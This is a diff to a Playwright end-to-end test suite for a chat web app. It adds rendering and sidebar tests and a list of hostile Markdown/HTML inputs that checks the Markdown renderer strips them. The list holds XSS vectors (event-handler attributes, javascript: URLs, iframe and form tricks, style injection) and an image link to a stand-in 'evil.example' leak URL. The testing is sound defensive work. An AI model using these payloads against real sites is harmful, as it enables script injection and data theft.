@@ -149,6 +149,30 @@ def words(text: str) -> str:
     return " ".join(text.split())
 
 
+def shows_as_stored(page: Page, saved: dict[str, Any]) -> None:
+    """The reply on the page is the stored one: the same text, rendered the same.
+
+    The page holds exactly the stored Markdown, and shows what the page's own
+    renderer makes of the stored text (the embedded model writes lists and
+    code blocks, so the shown words differ from the raw ones).
+    """
+    got = page.evaluate(
+        """async ({id, content}) => {
+        const md = await import('/js/markdown.js');
+        const box = document.createElement('div');
+        md.renderInto(box, content);
+        return {
+          held: window.__actorchat.workspace.transcript.byId.get(id)?.content ?? null,
+          shown: document.querySelector(`article[data-id="${id}"] .msg-body`)?.textContent ?? null,
+          rendered: box.textContent,
+        };
+      }""",
+        {"id": saved["id"], "content": saved["content"]},
+    )
+    assert got["held"] == saved["content"]
+    assert got["shown"] is not None and words(got["shown"]) == words(got["rendered"])
+
+
 def wait_streaming_chunks(page: Page, n: int) -> None:
     """Until the reply in progress holds at least ``n`` (< 10) chunks."""
     expect(page.locator("article[data-state=streaming]")).to_have_attribute(
@@ -197,7 +221,7 @@ def test_login_create_send_and_stream_to_completion(server: Any, page: Page) -> 
 
     saved = last_reply(server, "ann", cid)
     assert reply.get_attribute("data-id") == saved["id"]
-    assert words(reply_text(page, saved["id"])) == words(saved["content"])
+    shows_as_stored(page, saved)
     usage = saved["usage"]
     expect(reply.locator(".usage")).to_have_text(
         f"{usage['prompt_tokens']} prompt · {usage['completion_tokens']} completion · "
@@ -221,7 +245,7 @@ def test_stop_a_generation(server: Any, page: Page) -> None:
     saved = last_reply(server, "bob", cid)
     assert saved["finish_reason"] == "cancelled"
     assert saved["usage"]["completion_tokens"] < TOKENS
-    assert words(reply_text(page, saved["id"])) == words(saved["content"])
+    shows_as_stored(page, saved)
     # The conversation goes on after a stop.
     send(page, "And now a short one")
     expect(replies(page)).to_have_count(2)
@@ -241,7 +265,7 @@ def test_regenerate_replaces_the_reply(server: Any, page: Page) -> None:
     new_id = replies(page).get_attribute("data-id")
     saved = last_reply(server, "cyd", cid)
     assert saved["id"] == new_id
-    assert words(reply_text(page, saved["id"])) == words(saved["content"])
+    shows_as_stored(page, saved)
     # The old reply is kept on the server as an earlier version.
     versions = stored(server, "cyd", cid, versions="true")
     assert any(m["id"] == first_id and m.get("superseded") for m in versions)
@@ -399,6 +423,87 @@ def test_two_tabs_stay_in_sync(server: Any, context: Any) -> None:
     expect(b.locator("#chat-title")).to_have_text("New conversation")
 
 
+def test_the_empty_list_hint_sits_where_the_list_begins(server: Any, page: Page) -> None:
+    login(page, server.url, "jay")
+    hint = page.locator("#conv-empty")
+    expect(hint).to_have_text("No conversations yet: start one with New chat.")
+    head = page.locator(".sidebar-head").bounding_box()
+    box = hint.bounding_box()
+    assert head is not None and box is not None
+    # Right under the search box, not at the foot of the sidebar.
+    assert 0 <= box["y"] - (head["y"] + head["height"]) < 20, (head, box)
+    new_chat(page)
+    expect(hint).to_be_hidden()
+    expect(page.locator("#conv-list li")).to_have_count(1)
+
+
+def test_swarm_conversations_are_hidden_from_the_sidebar(
+    server: Any, context: Any, page: Page
+) -> None:
+    login(page, server.url, "ivy")
+    own = new_chat(page)
+    # The dashboard (same browser, same session) starts a swarm bigger than a page.
+    dash = context.new_page()
+    dash.goto(f"{server.url}/dashboard.html")
+    expect(dash.locator("#conn-status")).to_have_text("Live")
+    dash.get_by_role("button", name="Start 1,000").click()
+    expect(dash.locator("#start-status")).to_contain_text("Started 1,000 conversations")
+    dash.close()
+    # They are marked by their title.
+    r = requests.get(
+        f"{server.url}/api/v1/conversations",
+        params={"limit": 5},
+        headers={"Authorization": f"Bearer {dev_token(server, 'ivy')}"},
+        timeout=WAIT,
+    )
+    assert all(c["title"].startswith("swarm · started ") for c in r.json()["conversations"])
+
+    items = page.locator("#conv-list li")
+    toggle = page.get_by_role("checkbox", name=re.compile("Show swarm conversations"))
+    # Created while the workspace was open: hidden as they arrive.
+    expect(page.locator("#swarm-filter")).to_have_text("Show swarm conversations (1,000)")
+    expect(toggle).not_to_be_checked()
+    expect(items).to_have_count(1)
+    expect(page.locator(f'#conv-list li[data-id="{own}"]')).to_be_visible()
+
+    # A fresh page: the newest conversations are all the swarm's, and the
+    # list pages on past them to find the user's own.
+    fresh = context.new_page()
+    fresh.goto(f"{server.url}/")
+    expect(fresh.locator("#conn-status")).to_have_text("Connected")
+    items = fresh.locator("#conv-list li")
+    toggle = fresh.get_by_role("checkbox", name=re.compile("Show swarm conversations"))
+    expect(fresh.locator("#swarm-filter")).to_have_text("Show swarm conversations (1,000)")
+    expect(items).to_have_count(1)
+    expect(fresh.locator(f'#conv-list li[data-id="{own}"]')).to_be_visible()
+    expect(fresh.locator("#load-more")).to_be_hidden()
+
+    # Shown on request (the sidebar lists at most 300 and says so)...
+    toggle.check()
+    expect(items).to_have_count(300)
+    expect(fresh.locator("#conv-empty")).to_have_text(
+        "Showing 300 of 1,001: search to narrow the list."
+    )
+    # ... and remembered by the browser (shown, they come a page at a time).
+    fresh.reload()
+    expect(fresh.locator("#conn-status")).to_have_text("Connected")
+    expect(toggle).to_be_checked()
+    expect(items).to_have_count(100)
+    fresh.get_by_role("button", name="Load older conversations").click()
+    expect(items).to_have_count(200)
+    toggle.uncheck()
+    expect(items).to_have_count(1)
+    fresh.reload()
+    expect(fresh.locator("#conn-status")).to_have_text("Connected")
+    expect(toggle).not_to_be_checked()
+    expect(items).to_have_count(1)
+    # A swarm conversation opened from the dashboard (a cell's link) is listed while open.
+    swarm_id = r.json()["conversations"][0]["id"]
+    fresh.goto(f"{server.url}/#/c/{swarm_id}")
+    expect(fresh.locator(f'#conv-list li[data-id="{swarm_id}"]')).to_be_visible()
+    expect(items).to_have_count(2)
+
+
 def close_sockets(server: Any, user: str) -> int:
     """The server closes every WebSocket of ``user`` (1012: service restart)."""
     conns = [c for c in list(server.ctx.connections) if c.user_id == user]
@@ -433,13 +538,7 @@ def test_reconnect_after_a_drop_resumes_the_reply_intact(
         saved = last_reply(server, user, cid)
         assert reply.get_attribute("data-id") == saved["id"]
         # Exactly the stored text: nothing lost, nothing duplicated.
-        assert words(reply_text(page, saved["id"])) == words(saved["content"])
-        assert (
-            page.evaluate(
-                "id => window.__actorchat.workspace.transcript.byId.get(id).content", saved["id"]
-            )
-            == saved["content"]
-        )
+        shows_as_stored(page, saved)
         # The join after the reconnect asked only for what followed its last chunk.
         rejoins = [f for f in sent if '"join_conversation"' in f and '"after_index"' in f]
         assert rejoins, sent
@@ -471,31 +570,84 @@ def test_token_login_when_dev_auth_is_off(tmp_path: Path, browser: Any, errors: 
         assert errors.unexpected() == []
 
 
-def test_markdown_is_rendered_and_sanitised(server: Any, page: Page) -> None:
+#: Model output that tries to run script, style the page or load something. In
+#: Chromium 156 merely parsing an event-handler attribute, a ``style`` attribute
+#: or a ``<style>`` element (even in an inert document) logs a CSP violation, so
+#: each must be defused before the browser parses the HTML, not only sanitised.
+HOSTILE_MARKDOWN = [
+    '<img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script>',
+    "[click](javascript:window.__pwned=3) [ok](https://example.org)",
+    "![tracker](https://evil.example/leak?q=secret)",
+    '<svg onload="window.__pwned=4"><animate onbegin="window.__pwned=5"/></svg>',
+    '<details open ontoggle="window.__pwned=6"><summary>more</summary>inside</details>',
+    '<a href="javascript:window.__pwned=7">raw link</a>',
+    "<IMG SRC=x ONERROR=window.__pwned=8> <img/onerror=window.__pwned=9>",
+    '<b title="x"onmouseover=window.__pwned=10>adjacent</b>',
+    '<span style="color:red">styled</span> <style>body{display:none}</style>',
+    '<iframe src="javascript:window.__pwned=11"></iframe>',
+    '<form action="javascript:window.__pwned=12"><button>go</button></form>',
+    "",
+    # An HTML block whose handler starts a line of its own.
+    '<div title="x"',
+    'onmouseover="window.__pwned=13" tabindex="0">hover me</div>',
+]
+
+
+def test_markdown_is_rendered_and_sanitised(server: Any, page: Page, errors: PageErrors) -> None:
     page.goto(f"{server.url}/")
-    html = page.evaluate(
-        """async () => {
-        const md = await import('/js/markdown.js');
-        const box = document.createElement('div');
-        md.renderInto(box, [
-          '# Title', '', 'Some **bold** and `code`.', '',
-          '```python', 'print("hi")', '```', '',
-          '<img src=x onerror="window.__pwned=1"> <script>window.__pwned=2</script>',
-          '[click](javascript:window.__pwned=3) [ok](https://example.org)',
-          '![tracker](https://evil.example/leak?q=secret)',
-        ].join('\\n'));
-        document.body.append(box);
-        return box.innerHTML;
+    page.evaluate(
+        """() => {
+        window.__violations = [];
+        document.addEventListener('securitypolicyviolation',
+          (e) => window.__violations.push(e.violatedDirective));
       }"""
     )
+    markdown = "\n".join(
+        [
+            "# Title",
+            "",
+            "Some **bold** and `code`. Turn it on, only once, in style / on/off.",
+            "",
+            "```python",
+            'print("hi")',
+            "```",
+            "",
+            *HOSTILE_MARKDOWN,
+        ]
+    )
+    result = page.evaluate(
+        """async (text) => {
+        const md = await import('/js/markdown.js');
+        const box = document.createElement('div');
+        md.renderInto(box, text);
+        document.body.append(box);
+        const attrs = [...box.querySelectorAll('*')].flatMap((el) => el.getAttributeNames());
+        const tags = [...new Set([...box.querySelectorAll('*')].map((el) => el.localName))];
+        return {html: box.innerHTML, text: box.textContent, attrs, tags};
+      }""",
+        markdown,
+    )
+    html, text = result["html"], result["text"]
     assert "<strong>bold</strong>" in html
     assert '<code class="language-python">' in html
+    assert 'print("hi")' in text
     assert "Copy" in html  # code blocks get a Copy button
     assert "onerror" not in html and "<script" not in html and "javascript:" not in html
     assert 'href="https://example.org"' in html and 'rel="noopener noreferrer nofollow"' in html
     # Images are links, never fetched (a URL the model wrote could leak the conversation).
     assert "<img" not in html and "[image: tracker]" in html
+    # No handler, style or frame survives; the harmless parts do.
+    assert not [a for a in result["attrs"] if a.startswith("on") or a == "style"], html
+    assert not {"svg", "animate", "style", "iframe", "form", "script"} & set(result["tags"])
+    assert "body{" not in text
+    for kept in ("styled", "adjacent", "raw link", "inside", "hover me"):
+        assert kept in text, (kept, text)
+    # Defusing handlers keeps the prose as written.
+    assert "Turn it on, only once, in style / on/off." in text
     assert page.evaluate("window.__pwned") is None
+    # The strict check, now rather than at teardown: parsing logged nothing.
+    assert errors.unexpected() == [], "rendering the reply logged errors"
+    assert page.evaluate("window.__violations") == []
 
 
 def test_transcript_drops_duplicates_and_finds_gaps(server: Any, page: Page) -> None:
